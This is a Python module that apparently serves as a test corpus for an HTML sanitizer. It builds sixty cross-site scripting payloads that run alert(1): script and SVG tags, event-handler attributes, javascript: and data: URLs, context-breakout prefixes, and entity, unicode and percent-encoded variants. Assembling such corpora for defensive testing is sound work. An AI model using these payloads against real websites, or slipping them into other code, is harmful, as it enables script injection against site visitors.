"""Sixty texts that try to become markup, script or style: in text, in an attribute, in an address, in a script, in a style, in what a reader decodes."""

RUN = "alert(1)"
TAGS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt >{RUN}</ScRiPt >",
    f"<script src=data:text/javascript,{RUN}></script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<img src=x onerror={RUN}>",
    "<img src=x onerror=&#97;lert(1)>",
    f"<img/src=`x`/onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><set onbegin={RUN} attributeName=x to=1>",
    f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
    f"<body onload={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>",
    f"<textarea autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<iframe src=javascript:{RUN}>",
    f"<iframe srcdoc='<script>{RUN}</script>'>",
    f"<object data=javascript:{RUN}>",
    f"<embed src=javascript:{RUN}>",
    f"<form action=javascript:{RUN}><button>x</button></form>",
    f"<a href=javascript:{RUN}>x</a>",
    f"<base href=javascript:{RUN}//>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    "<link rel=stylesheet href=data:text/css,body{display:none}>",
    "<style>body{display:none}</style>",
    f"<template><script>{RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<dialog open onclose={RUN}>x</dialog>",
    f"<x onclick={RUN} tabindex=1 onfocus={RUN} autofocus id=x>",
)
BROKEN_OUT = tuple(
    end + inside
    for end in ('">', "'>", "-->", "</title>", "</textarea>", "</li></ol>", "]]>", "</svg>", "</style>", "</script>")
    for inside in (f"<img src=x onerror={RUN}>", f"<script>{RUN}</script>")
)
ATTRIBUTES = (
    f'" onmouseover="{RUN}" autofocus onfocus="{RUN}" x="',
    f"' onmouseover='{RUN}' autofocus onfocus='{RUN}' x='",
    f"javascript:{RUN}",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"%3Cscript%3E{RUN}%3C/script%3E",
)
PAYLOADS = (*TAGS, *BROKEN_OUT, *ATTRIBUTES)
